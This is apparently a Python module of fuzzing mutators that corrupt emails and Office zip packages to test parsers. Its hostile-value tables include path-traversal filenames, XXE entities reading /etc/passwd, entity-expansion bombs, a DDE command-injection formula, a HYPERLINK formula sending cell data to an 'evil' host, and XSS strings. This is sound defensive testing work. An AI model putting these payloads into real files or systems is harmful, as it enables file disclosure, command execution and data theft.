"""Structure-aware mutators for mails and Office packages: ``(data, rnd) -> data``.

Why our own: a byte-flipping fuzzer almost never produces a second MIME boundary, an RFC
2231 continuation or a DOCTYPE inside ``word/document.xml``; these mutators do so on
purpose, starting from real inputs (the shared corpus).  Every mutator takes its choices
from the ``random.Random`` it is given and nothing else, so the same seed gives the same
output: the property tests drive them with Hypothesis's ``st.randoms()`` (and shrink the
choices), the atheris target with a ``Random`` seeded by libFuzzer.
"""

from __future__ import annotations

import io
import random
import re
import warnings
import zipfile
from collections.abc import Callable, Sequence

Mutator = Callable[[bytes, random.Random], bytes]

# --- hostile values ------------------------------------------------------------------------

HOSTILE_NAMES: tuple[str, ...] = (
    "../../x",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\TEMP\\a.docx",
    "\\\\server\\share\\a.xlsx",
    "..\\..\\windows\\system32\\cmd.exe",
    "a\x00b.docx",
    "CON.docx",
    "con",
    "NUL.txt.xlsx",
    "COM1",
    "lpt9.docx",
    "AUX .docx",
    "COM¹.xlsx",
    "php://foo",
    "file:///etc/passwd",
    "申请表\u202excod.exe",
    "\u202eexe.docx",
    "a\u2066b\u2069.docx",
    "\u200f\u061c.xlsx",
    ".",
    "..",
    "...",
    " ",
    "",
    ".htaccess",
    "a.docx.",
    "a.docx   ",
    "a.docx:Zone.Identifier",
    'a<b>c:"d|e?f*.docx',
    "line\r\nbreak.xlsx",
    "\x1b[31mred.docx",
    "tab\there.docx",
    "a" * 400 + ".docx",
    "申" * 300 + ".xlsx",
    "~/.ssh/authorized_keys",
    "%2e%2e%2fx",
    "..%2F..%2Fx",
    "\uff0e\uff0e\uff0fx",  # full-width ../x
    "a\u2215b",  # division slash
    "a\u2044b",  # fraction slash
    "\ud800.docx",  # lone surrogate
)

HOSTILE_CHARSETS: tuple[str, ...] = (
    "utf-8-purple",
    "x-unknown",
    "unicode_escape",
    "raw_unicode_escape",
    "rot13",
    "rot_13",
    "base64",
    "zlib",
    "bz2",
    "hex",
    "uu",
    "quopri",
    "undefined",
    "idna",
    "punycode",
    "mbcs",
    "utf-16",
    "utf-32",
    "utf-7",
    "unicode-1-1-utf-7",
    "hz",
    "iso-2022-jp",
    "gb2312",
    "big5",
    "cp65001",
    "437",
    "baltic",
    "unicodebig",
    "",
    '"',
    "''",
    "a" * 300,
    "\x00",
    "utf-8\x00",
    "gb\xff2312",
    "=?utf-8?",
)

ENCODED_WORDS: tuple[str, ...] = (
    "=?gb2312?B?@@@?=",
    "=?gb2312?B?1tDOxA==?=",
    "=?utf-8?Q?=FF=FE=00?=",
    "=?utf-8?B?5Lit?= =?utf-8?B?5paH?=",
    "=?utf-8?B?5L?==?utf-8?B?it?=",
    "=?unicode_escape?Q?\\x41\\u0000?=",
    "=?rot13?Q?uryyb?=",
    "=?base64?B?AAAA?=",
    "=?utf-7?Q?+AGEAYgBj-?=",
    "=?utf-16?B?//5hAA==?=",
    "=??B??=",
    "=?utf-8*zh-cn?B?5Lit?=",
    "=?utf-8?X?abc?=",
    "=?utf-8?B?5Li",
    "=?=?=?=?",
    "=?utf-8?Q?a_b=?=",
    "=?utf-8?Q?=E4=B8=AD=?=",
    "=?iso-2022-jp?B?GyRCJEgbKEI=?=",
    "=?x-unknown?B?1tDOxA==?=",
    "=?" + "a" * 200 + "?B?QQ==?=",
)

RFC2231_GARBAGE: tuple[str, ...] = (
    "filename*0*=utf-8''%E4%B8; filename*1*=%AD.docx",
    "filename*=utf-8''%ZZ%E4",
    "filename*=''..%2F..%2Fx",
    "filename*=gb2312'zh'%D6%D0%CE%C4.xlsx",
    "filename*0=a; filename*2=c; filename*999=z",
    "filename*1*=%41; filename*0*=utf-8''%42",
    "filename*0*=x-unknown''%FF%FE",
    "filename*=unicode_escape''%5Cu0041",
    "filename*='''",
    "filename*0*=utf-8'",
    "filename*00=a; filename*01=b",
    'filename*0="=?gb2312?B?1tDOxA==?="; filename*1=".xlsx"',
    "name*0*=utf-8''%2E%2E%2F; name*1=x",
    "filename*" + "=" * 50,
)

MAIL_TOKENS: tuple[bytes, ...] = (
    b"\r\n",
    b"\n",
    b"\r",
    b"\r\n\r\n",
    b"\x00",
    b"\xff\xfe",
    b"--",
    b"--\r\n",
    b": ",
    b";",
    b'"',
    b"\\",
    b"=?",
    b"?=",
    b"=\r\n",
    b"boundary=",
    b'boundary=""',
    b"charset=",
    b"Content-Type: multipart/mixed; boundary=x\r\n",
    b"Content-Type: message/rfc822\r\n",
    b"Content-Type: text/html\r\n",
    b"Content-Transfer-Encoding: base64\r\n",
    b"Content-Transfer-Encoding: quoted-printable\r\n",
    b"Content-Transfer-Encoding: x-uuencode\r\n",
    b"Content-Disposition: attachment; filename=",
    b"begin 644 a.docx\r\n",
    b"From a@b.c Mon Jan  1 00:00:00 2026\r\n",
    b"From: =?utf-8?B?5Lit?= <a@b.c>, b@c.d)<e@f.g>\r\n",
    b"\xd6\xd0\xce\xc4",  # GBK
    b"\xb3\x5c",  # Big5 with a backslash trail byte
    b"\xe4\xb8",  # cut UTF-8
    b"<script>alert(1)</script>",
    b"<img src=http://x/a.png onerror=alert(1)>",
)

XML_TOKENS: tuple[bytes, ...] = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    b'<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    b"&xxe;",
    b"&a;",
    b"&#0;",
    b"&#x110000;",
    b"<![CDATA[",
    b"]]>",
    b"<!--",
    b"-->",
    b"<?xml version='1.0' encoding='utf-16'?>",
    b'<?xml version="1.0" encoding="gb2312"?>',
    b"<?xml-stylesheet href='http://127.0.0.1:9/x.xsl'?>",
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"<",
    b">",
    b"/>",
    b'"',
    b"=",
    b"<w:p>",
    b"</w:p>",
    b"<w:t>",
    b"</w:t>",
    b"<w:tbl>",
    b"</w:tbl>",
    b"<w:tr>",
    b"<w:tc>",
    b'<w:gridSpan w:val="99999"/>',
    b'<w:vMerge w:val="restart"/>',
    b"<w:sdt><w:sdtContent>",
    b"<w:txbxContent>",
    b"<w:t>=cmd|' /C calc'!A0</w:t>",
    b'<c r="XFD1048576" t="s"><v>99999999</v></c>',
    b'<c r="A1" t="n"><v>1e999</v></c>',
    b'<c r="A1" t="d"><v>9999-99-99</v></c>',
    b'<mergeCell ref="A1:XFD1048576"/>',
    b'<dimension ref="A1:XFD1048576"/>',
    b'<row r="1048577">',
    b"<si><t>",
    b'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"',
    b'Target="../../../../etc/passwd"',
    b'TargetMode="External"',
)

# --- byte-level mutators -------------------------------------------------------------------


def _pos(data: bytes, rnd: random.Random) -> int:
    return rnd.randint(0, len(data))


def flip_bits(data: bytes, rnd: random.Random) -> bytes:
    if not data:
        return bytes([rnd.randrange(256)])
    out = bytearray(data)
    for _ in range(rnd.randint(1, 8)):
        i = rnd.randrange(len(out))
        out[i] ^= 1 << rnd.randrange(8)
    return bytes(out)


def overwrite_bytes(data: bytes, rnd: random.Random) -> bytes:
    at = _pos(data, rnd)
    junk = rnd.randbytes(rnd.randint(1, 16))
    return data[:at] + junk + data[at + len(junk) :]


def delete_range(data: bytes, rnd: random.Random) -> bytes:
    at = _pos(data, rnd)
    return data[:at] + data[at + rnd.randint(1, 256) :]


def truncate(data: bytes, rnd: random.Random) -> bytes:
    return data[: _pos(data, rnd)]


def duplicate_range(data: bytes, rnd: random.Random) -> bytes:
    start = _pos(data, rnd)
    chunk = data[start : start + rnd.randint(1, 512)]
    at = _pos(data, rnd)
    return data[:at] + chunk * rnd.randint(1, 4) + data[at:]


def _insert_token(tokens: Sequence[bytes]) -> Mutator:
    def insert_token(data: bytes, rnd: random.Random) -> bytes:
        at = _pos(data, rnd)
        return data[:at] + rnd.choice(tokens) + data[at:]

    return insert_token


BYTE_MUTATORS: tuple[Mutator, ...] = (
    flip_bits,
    overwrite_bytes,
    delete_range,
    truncate,
    duplicate_range,
)

# --- mail mutators -------------------------------------------------------------------------

_HEADER_LINE = re.compile(rb"(?m)^[A-Za-z][A-Za-z0-9-]*:[^\r\n]*\r?\n")
_BOUNDARY_PARAM = re.compile(rb'(?i)boundary\s*=\s*"?([^";\r\n]*)"?')
_CHARSET_PARAM = re.compile(rb'(?i)charset\s*=\s*"?([^";\s]*)"?')
_CTE = re.compile(rb"(?im)^content-transfer-encoding:[^\r\n]*")
_PART_HEADER = re.compile(rb"(?im)^content-(?:type|disposition):[^\r\n]*")


def _pick(pattern: re.Pattern[bytes], data: bytes, rnd: random.Random) -> re.Match[bytes] | None:
    found = list(pattern.finditer(data))
    return rnd.choice(found) if found else None


def duplicate_header(data: bytes, rnd: random.Random) -> bytes:
    """One header line (of the mail or of a part) repeated up to 200 times."""
    match = _pick(_HEADER_LINE, data, rnd)
    if match is None:
        return data
    times = rnd.choice((1, 2, 5, 50, 200))
    return data[: match.end()] + match.group(0) * times + data[match.end() :]


def huge_header(data: bytes, rnd: random.Random) -> bytes:
    """One header line made very long: plain text, folds, encoded words or raw 8-bit."""
    match = _pick(_HEADER_LINE, data, rnd)
    if match is None:
        return data
    unit = rnd.choice(
        (b"a", b" x", b"\r\n a", b"\xd6\xd0", b" =?utf-8?B?5Lit?=", b", u@example.com", b"=?")
    )
    size = rnd.choice((1000, 10_000, 100_000))
    line = match.group(0).rstrip(b"\r\n")
    return data[: match.start()] + line + unit * (size // len(unit)) + b"\r\n" + data[match.end() :]


def corrupt_boundary(data: bytes, rnd: random.Random) -> bytes:
    """A multipart boundary broken one of the ways real mail breaks it."""
    match = _pick(_BOUNDARY_PARAM, data, rnd)
    if match is None:
        return data
    boundary = match.group(1)
    delimiter = b"--" + boundary
    choice = rnd.randrange(7)
    if choice == 0:  # the declared boundary no longer matches the delimiters
        return data[: match.start(1)] + boundary[:-1] + data[match.end(1) :]
    if choice == 1:  # empty boundary
        return data[: match.start()] + b'boundary=""' + data[match.end() :]
    if choice == 2 and boundary:  # the closing delimiter disappears
        return data.replace(delimiter + b"--", delimiter)
    if choice == 3:  # a delimiter line is lost
        at = data.find(b"\n" + delimiter, match.end())
        return data if at < 0 else data[:at] + data[at + len(delimiter) + 1 :]
    if choice == 4:  # a closing delimiter right after the first part starts
        at = data.find(b"\n" + delimiter, match.end())
        return data if at < 0 else data[:at] + b"\n" + delimiter + b"--" + data[at:]
    if choice == 5:  # the boundary is a prefix of a body line
        return data[: match.start(1)] + b"-" + data[match.end(1) :]
    return data.replace(delimiter, delimiter + b" \t", rnd.randint(1, 3))


def bad_charset(data: bytes, rnd: random.Random) -> bytes:
    label = rnd.choice(HOSTILE_CHARSETS).encode("utf-8", "surrogateescape")
    match = _pick(_CHARSET_PARAM, data, rnd)
    if match is None:
        match = _pick(_PART_HEADER, data, rnd)
        if match is None:
            return data
        return data[: match.end()] + b"; charset=" + label + data[match.end() :]
    return data[: match.start(1)] + label + data[match.end(1) :]


def bad_encoded_word(data: bytes, rnd: random.Random) -> bytes:
    match = _pick(_HEADER_LINE, data, rnd)
    if match is None:
        return data
    word = rnd.choice(ENCODED_WORDS).encode()
    at = match.end() - (2 if match.group(0).endswith(b"\r\n") else 1)
    return data[:at] + b" " + word + data[at:]


def rfc2231_garbage(data: bytes, rnd: random.Random) -> bytes:
    match = _pick(_PART_HEADER, data, rnd)
    if match is None:
        return data
    return data[: match.end()] + b"; " + rnd.choice(RFC2231_GARBAGE).encode() + data[match.end() :]


def hostile_filename(data: bytes, rnd: random.Random) -> bytes:
    """A part gets one of HOSTILE_NAMES, quoted, RFC 2047- or RFC 2231-encoded."""
    match = _pick(_PART_HEADER, data, rnd)
    if match is None:
        return data
    name = rnd.choice(HOSTILE_NAMES)
    param = encode_filename_param(name, rnd.randrange(4))
    return data[: match.end()] + b"; " + param + data[match.end() :]


def encode_filename_param(name: str, style: int, param: str = "filename") -> bytes:
    """``filename=`` (or *param*) parameter for *name*: style 0 quoted, 1 RFC 2047 B,
    2 RFC 2231, 3 raw 8-bit."""
    import base64
    from urllib.parse import quote_from_bytes

    key = param.encode()
    raw = name.encode("utf-8", "surrogatepass")
    if style == 1:
        return key + b'="=?utf-8?B?' + base64.b64encode(raw) + b'?="'
    if style == 2:
        return key + b"*=utf-8''" + quote_from_bytes(raw, safe="").encode()
    if style == 3:
        return key + b'="' + raw.replace(b"\r", b"").replace(b"\n", b"") + b'"'
    quoted = raw.replace(b"\\", b"\\\\").replace(b'"', b'\\"')
    quoted = quoted.replace(b"\r", b"").replace(b"\n", b"")
    return key + b'="' + quoted + b'"'


def swap_transfer_encoding(data: bytes, rnd: random.Random) -> bytes:
    match = _pick(_CTE, data, rnd)
    if match is None:
        return data
    value = rnd.choice(
        (b"base64", b"quoted-printable", b"x-uuencode", b"8bit", b"x-unknown", b"base64; x=y", b"")
    )
    return data[: match.start()] + b"Content-Transfer-Encoding: " + value + data[match.end() :]


def wrap_in_multiparts(data: bytes, rnd: random.Random) -> bytes:
    """The whole mail's body wrapped in several more multipart or message/rfc822 levels."""
    split = re.search(rb"\r?\n\r?\n", data)
    head, body = (data[: split.end()], data[split.end() :]) if split else (data, b"")
    inner = b"Content-Type: text/plain\r\n\r\n" + body
    for level in range(rnd.randint(1, 30)):
        if rnd.random() < 0.2:
            inner = b"Content-Type: message/rfc822\r\n\r\nSubject: fw\r\n" + inner
            continue
        b = b"w%d" % level
        inner = (
            b"Content-Type: multipart/mixed; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n"
            + inner + b"\r\n--" + b + b"--\r\n"
        )  # fmt: skip
    return head.rstrip(b"\r\n") + b"\r\nMIME-Version: 1.0\r\n" + inner


MAIL_MUTATORS: tuple[Mutator, ...] = (
    *BYTE_MUTATORS,
    _insert_token(MAIL_TOKENS),
    duplicate_header,
    huge_header,
    corrupt_boundary,
    bad_charset,
    bad_encoded_word,
    rfc2231_garbage,
    hostile_filename,
    swap_transfer_encoding,
    wrap_in_multiparts,
)

# --- Office package mutators ---------------------------------------------------------------


def _members(data: bytes) -> list[tuple[str, bytes]] | None:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            infos = zf.infolist()
            if len(infos) > 500 or sum(i.file_size for i in infos) > 50 * 1024 * 1024:
                return None
            return [(info.filename, zf.read(info)) for info in infos]
    except Exception:  # not a zip we can take apart: only byte mutators apply
        return None


def rezip(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip of *members* (deflated), names taken as given -- hostile ones included."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        warnings.simplefilter("ignore")  # duplicate names are one of the mutations
        for name, content in members:
            entry = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(entry, content)
    return out.getvalue()


_XML_MEMBER_MUTATORS: tuple[Mutator, ...] = (
    *BYTE_MUTATORS,
    _insert_token(XML_TOKENS),
    _insert_token(XML_TOKENS),
)


def mutate_member(data: bytes, rnd: random.Random) -> bytes:
    """One member's content mutated (XML-aware tokens or bytes); the zip stays valid."""
    members = _members(data)
    if not members:
        return flip_bits(data, rnd)
    index = rnd.randrange(len(members))
    info, content = members[index]
    members[index] = (info, rnd.choice(_XML_MEMBER_MUTATORS)(content, rnd))
    return rezip(members)


def replace_text(data: bytes, rnd: random.Random) -> bytes:
    """Text between tags of one XML member replaced by hostile text (formulas, bidi, CJK)."""
    members = _members(data)
    if not members:
        return flip_bits(data, rnd)
    xml = [i for i, (name, _) in enumerate(members) if name.endswith(".xml")]
    if not xml:
        return data
    index = rnd.choice(xml)
    info, content = members[index]
    texts = list(re.finditer(rb">([^<]{1,200})<", content))
    if not texts:
        return data
    match = rnd.choice(texts)
    value = rnd.choice(
        (
            '=HYPERLINK("http://evil/?"&A1)',
            "=cmd|' /C calc'!A0",
            "＝1+1",
            "@SUM(1)",
            "\u202e申请人",
            "2026年13月45日",
            "9" * 400,
            "-1e308",
            "&#x0;",
            "]]>",
            "申请" * 2000,
        )
    ).encode()
    members[index] = (info, content[: match.start(1)] + value + content[match.end(1) :])
    return rezip(members)


_ATTRIBUTE = re.compile(rb'\s([A-Za-z:]+)="([^"<>]{0,100})"')
_ATTRIBUTE_VALUES: tuple[bytes, ...] = (
    b"", b"0", b"-1", b"99999999", b"4294967296", b"1e999", b"NaN", b"A1:XFD1048576",
    b"XFD1048577", b"ZZZZ1", b"A0", b"1:16384", b"restart", b"continue", b"true", b"2",
    b"../../x", b"http://127.0.0.1:9/x", b"rId999", b"\xe7\x94\xb3", b"&amp;&lt;",
)  # fmt: skip
_ELEMENT = re.compile(
    rb"<((?:w:)?(?:tr|tc|p|r|t|tbl|sdt)|row|c|si|mergeCell|sheet)(?=[\s>/])[^>]*>.*?</\1>", re.S
)


def _member_edit(data: bytes, rnd: random.Random, edit: Callable[[bytes], bytes | None]) -> bytes:
    members = _members(data)
    if not members:
        return flip_bits(data, rnd)
    order = list(range(len(members)))
    rnd.shuffle(order)
    for index in order:
        name, content = members[index]
        if name.endswith((".xml", ".rels")) and (changed := edit(content)) is not None:
            members[index] = (name, changed)
            return rezip(members)
    return data


def replace_attribute(data: bytes, rnd: random.Random) -> bytes:
    """One attribute value of one XML member replaced (sizes, cell refs, ids, targets)."""

    def edit(content: bytes) -> bytes | None:
        found = list(_ATTRIBUTE.finditer(content))
        if not found:
            return None
        match = rnd.choice(found)
        value = rnd.choice(_ATTRIBUTE_VALUES)
        return content[: match.start(2)] + value + content[match.end(2) :]

    return _member_edit(data, rnd, edit)


def repeat_element(data: bytes, rnd: random.Random) -> bytes:
    """A table row, cell, paragraph or sheet cell repeated many times, or removed."""

    def edit(content: bytes) -> bytes | None:
        found = list(_ELEMENT.finditer(content))
        if not found:
            return None
        match = rnd.choice(found)
        times = rnd.choice((0, 0, 2, 10, 300))
        return content[: match.start()] + match.group(0) * times + content[match.end() :]

    return _member_edit(data, rnd, edit)


def rename_member(data: bytes, rnd: random.Random) -> bytes:
    members = _members(data)
    if not members:
        return flip_bits(data, rnd)
    index = rnd.randrange(len(members))
    info, content = members[index]
    name = rnd.choice(
        (
            "../../evil.xml",
            "/etc/evil",
            "word/../../../evil",
            "C:\\evil.xml",
            "word\\..\\..\\evil.xml",
            "a\x00b.xml",
            info.upper(),
            info + "/",
            "",
            "word/" * 60 + "deep.xml",
        )
    )
    members[index] = (name, content)
    return rezip(members)


def drop_or_duplicate_member(data: bytes, rnd: random.Random) -> bytes:
    members = _members(data)
    if not members:
        return truncate(data, rnd)
    index = rnd.randrange(len(members))
    if rnd.random() < 0.5:
        del members[index]
    else:
        members.insert(rnd.randrange(len(members) + 1), members[index])
    return rezip(members)


OFFICE_MUTATORS: tuple[Mutator, ...] = (
    *BYTE_MUTATORS,
    mutate_member,
    mutate_member,
    replace_text,
    replace_text,
    replace_attribute,
    replace_attribute,
    repeat_element,
    repeat_element,
    rename_member,
    drop_or_duplicate_member,
)


def mutate(data: bytes, rnd: random.Random, mutators: Sequence[Mutator], rounds: int = 0) -> bytes:
    """*data* after 1-4 (or *rounds*) mutators chosen by *rnd*."""
    for _ in range(rounds or rnd.randint(1, 4)):
        data = rnd.choice(mutators)(data, rnd)
    return data
